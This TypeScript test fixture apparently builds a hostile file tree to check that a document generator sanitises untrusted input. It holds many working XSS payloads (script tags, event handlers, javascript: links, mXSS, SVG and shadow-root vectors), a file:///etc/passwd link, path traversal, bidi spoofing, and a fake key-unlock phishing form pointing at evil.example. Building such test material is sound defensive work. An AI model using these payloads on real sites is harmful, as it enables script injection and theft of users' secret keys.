/** An organisation written by somebody who wants to break out of a page. Every attack calls `canary` or asks another host. */

/** Every request to it is a leak. */
export const FOREIGN = "evil.example";
/** How the address of a drawing on a page begins: one that holds it, and is of no origin. */
export const DRAWN = "data:image/svg+xml;base64,";
/** Stands in the page as text, whatever is around it. */
export const VISIBLE = ["harmless words before", "harmless words after"] as const;

const HTML = `<script>canary("script")</script>
<img src="https://${FOREIGN}/pixel.png" onerror="canary('onerror')">
<iframe src="https://${FOREIGN}/frame" srcdoc="<script>parent.canary('srcdoc')</script>"></iframe>
<form action="https://${FOREIGN}/steal"><input name="key" placeholder="AGE-SECRET-KEY-1"><button>Unlock</button></form>
<meta http-equiv="refresh" content="0; url=https://${FOREIGN}/moved">
<link rel="stylesheet" href="https://${FOREIGN}/style.css">
<base href="https://${FOREIGN}/">
<style>@import url(https://${FOREIGN}/import.css); body { display: none }</style>
<svg onload="canary('svg')"><script>canary("svg script")</script><animate onbegin="canary('animate')" attributeName="x" dur="1s"/></svg>
<svg><use href="https://${FOREIGN}/sprite.svg#x"/><foreignObject><body onload="canary('foreign')"></body></foreignObject></svg>
<math><mtext><table><mglyph><style><img src=x onerror="canary('mxss')"></style></mglyph></table></mtext></math>
<noscript><p title="</noscript><img src=x onerror=canary('noscript')>"></noscript>
<a href="javascript:canary('raw link')" onclick="canary('onclick')" onfocus="canary('onfocus')" autofocus>raw</a>
<template shadowrootmode="open"><slot onslotchange="canary('shadow')"></slot></template>
<details open ontoggle="canary('toggle')"><video><source onerror="canary('video')"></video></details>`;

/** Markdown links and pictures that no page may hold: the program refuses to build with any of them. */
export const REFUSED: readonly string[] = [
  "[x](javascript:canary('link'))",
  "[x](JaVaScRiPt:canary('cased'))",
  "[x](java&#9;script:canary('tab'))",
  "[x](<  javascript:canary('space')>)",
  "[x](data:text/html,<script>canary('data')</script>)",
  "[x](vbscript:canary('vb'))",
  `[x](blob:https://${FOREIGN}/x)`,
  "[x](file:///etc/passwd)",
  `[x](//${FOREIGN}/relative)`,
  "[x](../../../../site.json)",
  "![x](data:image/svg+xml,<svg/onload=canary('inline')>)",
  `![x](//${FOREIGN}/a.png)`,
  "<javascript:canary('autolink')>",
  "[x]: javascript:canary('reference')\n\n[x]",
];

const MARKDOWN = `[honest](https://docs.example/page) ![remote](https://${FOREIGN}/markdown.png)
[titled](https://docs.example/ "\\" onmouseover=\\"canary('title')") <https://${FOREIGN}/"onmouseover="canary('autolink')>

A footnote[^<img src=x onerror=canary('footnote')>], and \`</code><script>canary('span')</script>\`.

\`\`\`<script>canary('fence')</script>
</code></pre><script>canary("code")</script>
\`\`\`

| <img src=x onerror=canary('cell')> | b |
|:--|--:|
| \`</td><script>canary('td')</script>\` | x |

- [x] <input onfocus=canary('task') autofocus>

Bidi: \u202egnp.exe\u202c and \u2066isolated\u2069 and a zero\u200bwidth.`;

const FAKE_LOCK = `# Unlock your portfolio

Your session has ended. **Your key or passphrase**

\\_\\_\\_\\_\\_\\_\\_\\_\\_\\_\\_\\_\\_\\_\\_\\_

[Unlock](https://${FOREIGN}/phish)`;

/** A drawing whose words would run, were they more than words; no other is taken. */
const SVG = `<?xml version="1.0"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="120" height="80">
<title>&lt;script&gt;canary("image title")&lt;/script&gt;</title>
<text y="20"><![CDATA[<script>canary("image text")</script>]]></text>
<!-- <script>canary("image comment")</script> -->
<rect width="120" height="80" fill="teal"/></svg>`;

/** Markup where a name is asked for. */
const NAME = "<img src=x onerror=canary('name')>Eve";

const front = (by: string, more = ""): string => `+++\nby = "${by}"\ndate = 2026-07-03\n${more}+++\n`;

/** The tree's files by path; `recipient` is the reader's public key. */
export function hostileFiles(recipient: string): Readonly<Record<string, string>> {
  return {
    "gradus.toml": `name = '"><script>canary("org")</script>'
public_title = '</title><script>canary("title")</script>'
as_of = 2026-11-15
[[question]]
id = "proud"
for = "self"
title = '<script>canary("question")</script>'
prompt = "${"javascript:canary('prompt')"}"
`,
    "cycles/2026-h1.toml": `title = '<b onclick=canary("cycle")>H1</b>'
start = 2026-01-01
end = 2026-06-30
`,
    "rubrics/ic/track.toml": `title = '"><svg onload=canary("track")>'
readers = "public"
description = '''${HTML}'''
[[competency]]
id = "constructor"
title = '<script>canary("competency")</script>'
[[competency]]
id = "gradus-form"
title = "An id of the viewer's own"
`,
    "rubrics/ic/l1.toml": `title = '{{ 7 * 7 }}<script>canary("level")</script>'
rank = 1
[cell.constructor]
text = '''${HTML}

${MARKDOWN}'''
[cell.gradus-form]
text = "[away](https://docs.example/cell)"
`,
    "people/eve/person.toml": `name = "${NAME}"
start = 2025-01-01
keys = ["${recipient}"]
[[role]]
from = 2025-01-01
level = "ic/l1"
title = '<iframe src="https://${FOREIGN}/role">'
team = "</td></table><script>canary('team')</script>"
`,
    "people/eve/log.toml": `[[entry]]
date = 2026-03-01
kind = "win"
text = '''${HTML}'''
evidence = ["https://${FOREIGN}/<script>canary('evidence')</script>"]
`,
    "people/eve/2026-h1/expectations.toml": `agreed = 2026-01-10
[[expectation]]
id = "to-string"
text = '''<script>canary("expectation")</script>'''
competencies = ["constructor"]
steps = [{ text = '<img src=x onerror=canary("step")>', done = 2026-02-01, evidence = ["https://${FOREIGN}/e"] }]
`,
    "people/eve/2026-h1/self.md": `${front("eve", '[outcome]\nto-string = { is = "met", why = "<script>canary(1)</script>" }\n')}
## proud

${VISIBLE[0]}

${HTML}

${MARKDOWN}

${FAKE_LOCK}

![An attached drawing](files/hostile.svg)

[the file itself](files/page.html)

${VISIBLE[1]}
`,
    "people/eve/2026-h1/files/hostile.svg": SVG,
    "people/eve/2026-h1/files/page.html": "<script>canary('download')</script>",
  };
}
